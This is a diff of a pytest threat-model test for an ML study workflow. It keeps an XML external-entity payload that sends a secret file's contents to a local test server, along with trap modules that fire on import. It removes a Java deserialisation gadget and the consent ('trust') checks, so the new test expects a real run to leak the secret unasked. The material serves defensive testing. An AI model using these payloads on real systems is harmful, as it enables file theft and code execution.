@@ -1,11 +1,9 @@
-"""What a stranger's study may do: a test for each sentence of config/README.md."""
+"""What a study of somebody else does: a test for each sentence of config/README.md."""
 
 import ast
 import http.server
 import json
 import re
-import shutil
-import subprocess
 import threading
 from pathlib import Path
 from types import SimpleNamespace
@@ -20,7 +18,6 @@ pytestmark = pytest.mark.slow
 
 BAYES = "scikit_learn: {learner: sklearn.naive_bayes.GaussianNB}"
 NET = "weka.classifiers.bayes.BayesNet"
-MODEL = "weka.classifiers.misc.SerializedClassifier"
 # A net whose document type sends a file to a server.
 XML = """<?xml version="1.0"?>
 <!DOCTYPE BIF [
@@ -31,20 +28,6 @@ XML = """<?xml version="1.0"?>
 <BIF><NETWORK><NAME>&send;</NAME></NETWORK></BIF>
 """
 DTD = """<!ENTITY % all "<!ENTITY send SYSTEM 'http://127.0.0.1:{port}/?%file;'>">"""
-JAVA = """package evil;
-import java.io.*;
-public class Model extends weka.classifiers.rules.ZeroR {
-  private void readObject(ObjectInputStream in) throws Exception {
-    in.defaultReadObject();
-    new File("TOUCHED").createNewFile();
-  }
-  public static void main(String[] files) {
-    try (FileOutputStream file = new FileOutputStream(files[0])) {
-      new ObjectOutputStream(file).writeObject(new Model());
-    } catch (IOException error) { throw new RuntimeException(error); }
-  }
-}
-"""
 
 
 @pytest.fixture
@@ -71,79 +54,36 @@ def asked():
 
 
 @pytest.fixture
-def hostile(fresh, asked, weka_jar, tmp_path):
-    """The tiny study with a net that asks a server, and a model that makes a file.
-
-    The model's class is of a jar that the user has: without one there is nothing to
-    deserialise.
-    """
+def hostile(fresh, asked, weka_jar):
+    """The tiny study with a net that asks a server."""
     pytest.importorskip("jpype")
-    if not shutil.which("javac"):
-        pytest.skip("no javac; install a JDK")
     folder = fresh.folder
     (folder / "secret").write_text("it_is_secret")
     net = {"secret": folder / "secret", "port": asked.port}
     (folder / "net.xml").write_text(XML.format(**net))
-    java = tmp_path / "java" / "Model.java"
-    java.parent.mkdir()
-    java.write_text(JAVA.replace("TOUCHED", str(folder / "touched")))
-    calls = [
-        ["javac", "-nowarn", "-cp", weka_jar, "-d", java.parent, java],
-        [
-            "java",
-            "-cp",
-            f"{weka_jar}:{java.parent}",
-            "evil.Model",
-            folder / "evil.model",
-        ],
-        ["jar", "cf", folder / "evil.jar", "-C", java.parent, "evil"],
-    ]
-    for call in calls:
-        call = list(map(str, call))
-        subprocess.run(call, check=True, capture_output=True, cwd=folder)
     study = folder / "tiny.yaml"
-    both = f"weka: {{learner: {NET}, options: '-B {folder}/net.xml'}}\n  Model:\n    "
-    both += f"weka: {{learner: {MODEL}, options: '-model {folder}/evil.model'}}"
+    reading = f"weka: {{learner: {NET}, options: '-B {folder}/net.xml'}}"
     text = study.read_text()
     assert BAYES in text
-    study.write_text(text.replace(BAYES, both))
-    fresh.config = [f"weka_classpath={folder / 'evil.jar'}"]
+    study.write_text(text.replace(BAYES, reading))
     return fresh
 
 
-def test_a_dry_run_and_a_real_one_refuse_what_is_not_harmless(hostile, asked):
-    for how in (["--dry-run"], []):
-        code, said = hostile(*how, config=hostile.config)
-        assert code != 0
-        assert said.index("Study tiny loads") < said.index("WorkflowError")
-        assert f"GaussianNB: the Java class {NET} with the options '-B" in said
-        assert (
-            f"classifier GaussianNB names the option -B of {NET}, which reads" in said
-        )
-        assert f"classifier Model names the class {MODEL}" in said
-        assert "--config trust=GaussianNB,Model" in said
+def test_a_dry_run_makes_no_java_object(hostile, asked):
+    code, said = hostile("--dry-run")
+    assert code == 0, said
+    assert "Study tiny loads" in said
+    assert f"GaussianNB: the Java class {NET} with the options '-B" in said
     assert asked.paths == []
-    assert not (hostile.folder / "touched").exists()
     assert not (hostile.folder / "results").exists()
 
 
-def test_a_dry_run_makes_no_java_object_even_with_consent(hostile, asked):
-    config = [*hostile.config, "trust=GaussianNB,Model"]
-    code, said = hostile("--dry-run", config=config)
-    assert code == 0, said
-    assert "Study tiny loads" in said
-    assert asked.paths == []
-    assert not (hostile.folder / "touched").exists()
-
-
-def test_with_consent_both_are_made_before_the_first_job(hostile, asked, monkeypatch):
-    """That is what consent is for, and that the traps of these tests work."""
+def test_a_real_run_makes_all_before_the_first_job(hostile, asked, monkeypatch):
+    """A study runs code; and the trap of these tests works."""
     monkeypatch.chdir(hostile.folder)
-    machine = read_machine({"weka_classpath": "evil.jar", "trust": "GaussianNB,Model"})
     study = read_study("tiny.yaml", ROOT)
-    check_made(study, study.panels("native"), machine=machine)
+    check_made(study, study.panels("native"), machine=read_machine({}))
     assert asked.paths == ["/remote.dtd", "/?it_is_secret"]
-    assert Path("touched").exists()
 
 
 TRAP = "from pathlib import Path\nPath({!r}).touch()\nraise SystemExit('trapped')\n"
@@ -157,7 +97,7 @@ def trapped(fresh, workflow_in, tmp_path_factory):
     for name in ("numpy", "sklearn", "yaml", "mine", "weka", "sitecustomize"):
         (theirs / f"{name}.py").write_text(trap)
     (theirs / "profiles" / "default").mkdir(parents=True)
-    profile = "executor: none\nconfig: trust=GaussianNB\n"
+    profile = "executor: none\nconfig: engine=weka\n"
     (theirs / "profiles" / "default" / "config.yaml").write_text(profile)
     study = theirs / "tiny.yaml"
     mine = "scikit_learn: {learner: mine.Forest}"
@@ -190,7 +130,7 @@ def test_somebodys_results_are_looked_at_without_their_classifiers(trapped):
     text = study.read_text()
     forest = "scikit_learn: {learner: mine.Forest}"
     assert forest in text
-    study.write_text(text.replace(forest, f"{forest}\n    weka: {{learner: {MODEL}}}"))
+    study.write_text(text.replace(forest, f"{forest}\n    weka: {{learner: {NET}}}"))
     rows = ["dataset,classifier,run,fold,tested,correct"]
     for dataset, size in (("iris", 75), ("lenses", 12), ("monks", 216)):
         for name in ("GaussianNB", "DecisionTree"):
@@ -198,11 +138,11 @@ def test_somebodys_results_are_looked_at_without_their_classifiers(trapped):
             rows += [f"{dataset},{name},{r},{f},{size},{size - r}" for r, f in cells]
     (trapped.folder / "theirs.csv").write_text("\n".join(rows) + "\n")
     provenance = "results/tiny/provenance.json"
-    config = ["accuracies=theirs.csv", "trust=DecisionTree", "weka_classpath=a.jar"]
+    config = ["accuracies=theirs.csv", "weka_classpath=a.jar"]
     code, said = trapped(provenance, study=study, config=config, env={})
     assert code == 0, said
     command = json.loads((trapped.folder / provenance).read_text())["command"]
-    assert command.endswith("=theirs.csv weka_classpath=a.jar trust=DecisionTree")
+    assert command.endswith("=theirs.csv weka_classpath=a.jar")
     code, said = trapped("verify", study=study, env={})
     assert "results/tiny" in said, said
     assert not (trapped.theirs / "trapped").exists()
@@ -216,52 +156,32 @@ def names_in(place):
 
 
 HERE = "workflow/test_threat_model.py"
-STRANGERS = "fuzz/test_strangers_study.py"
-WEKA = "fuzz/test_strangers_weka.py"
+LOADED = "study/test_what_is_loaded.py"
 # How each sentence begins, and the tests that keep it.
 SENTENCES = {
-    "A study file, its sheet and its data files may": [(HERE, "with_consent_both")],
-    "Yours are the configuration": [(HERE, "a_dry_run_takes_nothing_that_lies_besid")],
-    "A dry run, `snakemake --dry-run": [(HERE, "a_dry_run_and_a_real_one_refuse")],
+    "A study runs code": [(HERE, "a_real_run_makes_all")],
+    "Read a study of somebody else's": [(HERE, "a_dry_run_makes_no_java")],
+    "Call Snakemake in a folder": [(HERE, "a_dry_run_takes_nothing_that_lies")],
+    "A dry run, `snakemake --dry-run": [(HERE, "a_dry_run_makes_no_java")],
     "It makes classes of scikit-learn": [
-        (HERE, "a_dry_run_makes_no_java_object_even_with"),
+        (HERE, "a_dry_run_makes_no_java"),
         (HERE, "a_dry_run_asks_no_server"),
         (HERE, "a_dry_run_takes_nothing_that_lies"),
     ],
-    "A class from anywhere else": [(STRANGERS, "a_dry_run_names_every_class")],
-    "Whatever could reach beyond": [
-        (HERE, "a_dry_run_and_a_real_one_refuse"),
-        ("study/test_readiness.py", "what_reaches_beyond_the_data_needs_consent"),
-    ],
-    "In `settings` that is text where": [
-        ("engines/scikit_learn/test_untrusted.py", "paths_caches_and_hidden_names"),
-        ("engines/scikit_learn/test_untrusted.py", "functions_outside_the_list"),
-    ],
-    "In WEKA it is an option": [
-        ("engines/weka/test_options.py", "what_reaches_beyond_the_data_is_named"),
-        ("engines/weka/test_options.py", "any_text_is_split_as_weka_splits_it"),
-        ("engines/weka/test_harmless.py", "the_list_has_as_many_classes_as_the_readme"),
-        ("engines/weka/test_packages.py", "a_class_of_a_package_needs_consent"),
-        (WEKA, "harmless_classes_reach_nothing"),
-        (WEKA, "the_canary_notices"),
-    ],
-    "You consent by the names": [
-        (HERE, "with_consent_both_are_made"),
-        ("study/test_readiness.py", "trust_in_a_classifier_that_the_study_has_not"),
-    ],
-    "The command in `provenance.json`": [(HERE, "somebodys_results_are_looked_at")],
+    "A class from anywhere else": [(LOADED, "a_dry_run_names_every_class")],
     "A real run asks OpenML": [
         ("workflow/test_fetched_study.py", "a_study_runs_through_from_an_archive")
     ],
-    "It imports the classes": [
-        (STRANGERS, "foreign_classes_are_imported_by_the_second")
-    ],
+    "It imports the classes": [(LOADED, "foreign_classes_are_imported_by_the_second")],
     "All classifiers are made once": [
-        (HERE, "with_consent_both_are_made"),
+        (HERE, "a_real_run_makes_all"),
         ("workflow/test_bad_input.py", "options_that_weka_refuses"),
     ],
-    "The standard library is refused": [(STRANGERS, "what_is_no_classifier_is_not")],
-    "A class is called only if": [(STRANGERS, "what_is_no_classifier_is_not_called")],
+    "The standard library is refused": [(LOADED, "what_is_no_classifier_is_not")],
+    "A class is called only if": [(LOADED, "what_is_no_classifier_is_not_called")],
+    "Scikit-learn's `memory`": [
+        ("engines/scikit_learn/test_caches.py", "a_cache_of_fitted_parts_is_refused")
+    ],
     "Study files are YAML": [("fuzz/test_hostile_names.py", "yaml_makes_no_python")],
     "Data files, files of folds": [
         ("fuzz/test_readers.py", "whatever_a_file_holds_it_is_read_or_refused"),
